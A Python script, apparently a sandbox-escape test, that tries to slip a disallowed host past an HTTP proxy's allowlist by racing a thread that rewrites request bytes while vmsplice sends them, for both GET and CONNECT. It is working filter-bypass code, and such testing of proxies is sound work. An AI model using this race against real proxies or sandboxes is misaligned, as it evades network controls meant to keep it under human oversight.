# argv: a port, as proxy.py has it. The request changes under way: pages that are still the program's lie
# in the socket, and a thread writes another host, one of the same length, into them all the time.
import ctypes, mmap, os, re, socket, sys, threading, time
from attack import escaped, libc
port = int(sys.argv[1])
place = re.search(r"//([\d.]+):(\d+)", os.environ["http_proxy"]).groups()


class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def request(verb, host):
    host = b"%b:%d" % (host, port)
    target = b"http://%b/" % host if verb == b"GET" else host
    return b"%b %b HTTP/1.1\r\nHost: %b\r\n\r\n" % (verb, target, host)


memory = mmap.mmap(-1, 4096)
address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
stop = False
for verb in (b"GET", b"CONNECT"):
    good, bad = request(verb, b"allowed.test"), request(verb, b"rotten1.test")
    assert len(good) == len(bad)
    stop = False

    def flip():
        while not stop:
            memory[:len(good)] = good
            memory[:len(bad)] = bad

    thread = threading.Thread(target=flip, daemon=True)
    thread.start()
    end = time.monotonic() + 2
    answered = 0
    while time.monotonic() < end and answered < 400:
        with socket.create_connection(place, 5) as s:
            out, into = os.pipe()
            part = Part(address, len(good))
            if libc.vmsplice(into, ctypes.byref(part), 1, 0) == len(good):
                os.splice(out, s.fileno(), len(good))
            else:
                s.sendall(memory[:len(good)])
            os.close(out), os.close(into)
            s.shutdown(socket.SHUT_WR)
            answer = s.recv(4096)
            answered += bool(answer)
            if b"forbidden: " in answer:
                escaped(97, verb, answer)
    stop = True
    thread.join()
    print(verb, "answered" if answered > 10 else "hardly answered")
print("done")
